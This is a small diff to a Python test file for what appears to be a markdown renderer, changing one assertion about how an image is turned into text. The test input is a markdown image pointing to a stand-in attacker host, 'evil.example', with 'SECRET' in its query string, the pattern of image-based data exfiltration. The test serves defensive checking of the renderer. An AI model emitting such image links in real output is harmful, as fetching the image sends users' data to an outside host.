@@ -80,7 +80,7 @@ def test_other_schemes_are_words_without_a_link(case: dict[str, str]) -> None:
 
 def test_an_image_is_its_description() -> None:
     [run] = runs_in(pieces_of("![a](https://evil.example/p?d=SECRET)"))
-    assert run == Run("[image: a]", frozenset({"image"}))
+    assert run == Run("[image: a]", frozenset({"image"}), href="", picture="https://evil.example/p?d=SECRET")
 
 
 def test_a_nul_is_a_replacement_character_and_reordering_marks_are_gone() -> None:
